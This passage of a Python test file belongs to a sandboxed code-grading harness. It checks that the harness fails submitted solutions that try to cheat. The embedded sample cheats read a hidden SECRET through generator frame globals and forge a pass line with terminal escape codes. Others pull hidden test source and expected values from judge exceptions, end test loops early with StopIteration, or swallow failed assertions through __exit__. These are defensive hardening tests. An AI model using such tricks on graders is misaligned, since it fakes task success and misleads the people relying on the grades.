        "def test_generator():\n    gen = (n for n in [SECRET, 1])\n    assert adder.total(gen) == 42\n\n"
        "def test_dict_unchanged():\n    table = {'a': 1}\n"
        "    adder.total_of(table) if hasattr(adder, 'total_of') else None\n"
        "    assert table == {'a': 1}\n    assert adder.total([SECRET + 1]) == 42\n")
    task = load_task_dir(folder, package="generator_fixture")
    reference = grade(task, task.reference_files, bwrap_sandbox)
    assert reference.passed, reference.detail
    source = CORRECT + ("def total(items):\n    try:\n        return items.gi_frame.f_globals['SECRET'] + 1\n"
                        "    except Exception:\n        return -1\n"
                        "def total_of(table):\n    try:\n        table['a'] = 2\n    except Exception:\n        pass\n")
    outcome = grade(task, {"adder.py": source.encode()}, bwrap_sandbox, reference.test_ids)
    assert outcome.status == Status.FAILED, outcome.detail
    assert outcome.counts["passed"] == 0


def test_terminal_escapes_in_a_solutions_text_print_as_escapes(capsys, monkeypatch):
    """An ESC sequence in an exception message could erase the fail line and draw a pass on
    a real terminal; every control character prints as a visible escape instead."""
    from sb.outcome import Outcome
    from sb.report.terminal import print_grade
    monkeypatch.setenv("NO_COLOR", "1")
    forged = "\x1b[2K\x1b[1A\r\x1b[32mratelimit: pass (25 passed)\x1b[0m\x07"
    print_grade(Outcome("ratelimit", Status.FAILED, failed_tests=[f"test_x.py::test_{forged}"], detail=forged,
                        counts={"failed": 1}))
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "\\x1b[2K" in out


def test_an_exception_from_a_judge_object_carries_no_test_source_or_compared_values(task_copy, bwrap_sandbox):
    """A judge-side object that raises into the solution's call (a fake refusing a method,
    an assertion inside a callback) sent its traceback, the hidden tests' own source lines,
    and an assertion message pytest fills with the compared values. Now the solution sees
    the exception's type and, except for an assertion, its message; nothing else."""
    from sb.task import load_task_dir
    folder = task_copy()
    (folder / "reference" / "adder.py").write_text(CORRECT + "def probe_judge(fake):\n    return 42\n")
    (folder / "hidden_tests" / "_fake.py").write_text(
        "EXPECTED = 'expected-7f3a'\n\nclass Fake:\n"
        "    def refuse(self):\n        raise ValueError('no such method')  # source-line-secret-9c1d\n"
        "    def check(self, value):\n        assert value == EXPECTED, f'{value!r} != {EXPECTED!r}'\n")
    (folder / "hidden_tests" / "test_add.py").write_text(
        "import adder\nfrom _fake import Fake\n\n"
        "def test_the_solution_answers_42():\n    assert adder.probe_judge(Fake()) == 42\n")
    task = load_task_dir(folder, package="judge_exception_fixture")
    reference = grade(task, task.reference_files, bwrap_sandbox)
    assert reference.passed, reference.detail
    source = CORRECT + (
        "def probe_judge(fake):\n    seen = []\n"
        "    for call in (fake.refuse, lambda: fake.check('guess')):\n"
        "        try:\n            call()\n        except Exception as exc:\n"
        "            seen.append(type(exc).__name__ + str(exc) + ''.join(getattr(exc, '__notes__', [])))\n"
        "    text = ' '.join(seen)\n"
        "    leaked = 'source-line-secret-9c1d' in text or 'expected-7f3a' in text\n"
        "    assert 'ValueErrorno such method' in text and 'AssertionError' in text, text\n"
        "    return 42 if leaked else 41\n")
    outcome = grade(task, {"adder.py": source.encode()}, bwrap_sandbox, reference.test_ids)
    assert outcome.status == Status.FAILED, outcome.detail
    assert "41" in outcome.detail, outcome.detail  # the solution saw no secret


# ---------------------------------------------------------------- ending a test's loop early


LOOP_MODULE = CORRECT + """

def upto(n):
    yield from range(n)


class Counter:
    def __init__(self):
        self.count = 0

    def step(self):
        self.count += 1
        return self.count

    def __len__(self):
        return self.count


class Guard:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return None
"""
LOOP_TESTS = """from adder import add, upto, Counter, Guard

CASES = [(1, 2, 3), (2, 2, 4), (-1, 1, 0)]


def test_add_over_every_case():
    assert all(map(lambda c: add(c[0], c[1]) == c[2], CASES))


def test_upto_counts():
    assert list(upto(3)) == [0, 1, 2]


def test_steps_over_every_case():
    counter = Counter()
    assert all(map(lambda want: counter.step() == want and len(counter) == want, [1, 2, 3]))


def test_inside_a_guard():
    with Guard():
        assert add(5, 5) == 10
"""


def _loop_task(task_copy):
    """A task whose tests loop over the solution's answers (map, all) and run a block
    inside a solution's context manager, and the ids its reference passes."""
    from sb.task import load_task_dir
    folder = task_copy()
    for old in (folder / "hidden_tests").glob("test_*.py"):
        old.unlink()
    (folder / "reference" / "adder.py").write_text(LOOP_MODULE)
    (folder / "starter" / "adder.py").write_text(LOOP_MODULE.replace("return a + b", "raise NotImplementedError")
                                                 .replace("yield from range(n)", "raise NotImplementedError")
                                                 .replace("return self.count\n", "raise NotImplementedError\n", 1))
    (folder / "hidden_tests" / "test_loop.py").write_text(LOOP_TESTS)
    tests = ["test_add_over_every_case", "test_upto_counts", "test_steps_over_every_case", "test_inside_a_guard"]
    (folder / "contract.yaml").write_text("".join(f"- clause: {t}\n  tests: [test_loop.py::{t}]\n" for t in tests))
    return load_task_dir(folder, package="loop_fixture")


def _graded_against_reference(task, solution: str, sandbox):
    reference = grade(task, task.reference_files, sandbox)
    assert reference.passed, reference.detail
    return grade(task, {"adder.py": solution.encode()}, sandbox, reference.test_ids)


def test_stop_iteration_from_a_call_does_not_end_a_tests_loop_early(task_copy, bwrap_sandbox):
    """`all(map(add, ...))` in a test: a solution raising StopIteration from `add` would end
    map silently (plain Python, no harness needed), so a call raises it as RuntimeError;
    a solution's iterator still ends with StopIteration."""
    stopping = LOOP_MODULE.replace("def add(a, b):\n    return a + b", "def add(a, b):\n    raise StopIteration")
    outcome = _graded_against_reference(_loop_task(task_copy), stopping, bwrap_sandbox)
    assert outcome.status == Status.FAILED
    assert outcome.failed_tests == ["test_loop.py::test_add_over_every_case", "test_loop.py::test_inside_a_guard"]


def test_stop_iteration_from_any_other_request_does_not_end_a_tests_loop_early(task_copy, bwrap_sandbox):
    """The same through a method read (`counter.step` raising before any call) and len():
    every request but an iterator's own __next__ raises StopIteration as RuntimeError."""
    stopping = LOOP_MODULE.replace("    def step(self):", """    def __getattribute__(self, name):
        if name == "step":
            raise StopIteration
        return object.__getattribute__(self, name)

    def step(self):""")
    task = _loop_task(task_copy)
    outcome = _graded_against_reference(task, stopping, bwrap_sandbox)
    assert outcome.failed_tests == ["test_loop.py::test_steps_over_every_case"]
    stopping = LOOP_MODULE.replace("    def __len__(self):\n        return self.count",
                                   "    def __len__(self):\n        raise StopIteration")
    outcome = _graded_against_reference(task, stopping, bwrap_sandbox)
    assert outcome.failed_tests == ["test_loop.py::test_steps_over_every_case"]


def test_a_solutions_exit_never_swallows_the_tests_failed_assertion(task_copy, bwrap_sandbox):
    """`with Guard(): assert ...`: a solution's __exit__ answering True would suppress the
    judge's AssertionError and pass a wrong add; its answer is ignored."""
    swallowing = LOOP_MODULE.replace("return a + b", "return a + b + (a == b == 5)").replace(
        "    def __exit__(self, *exc):\n        return None", "    def __exit__(self, *exc):\n        return True")
    outcome = _graded_against_reference(_loop_task(task_copy), swallowing, bwrap_sandbox)
    assert outcome.status == Status.FAILED and outcome.failed_tests == ["test_loop.py::test_inside_a_guard"]
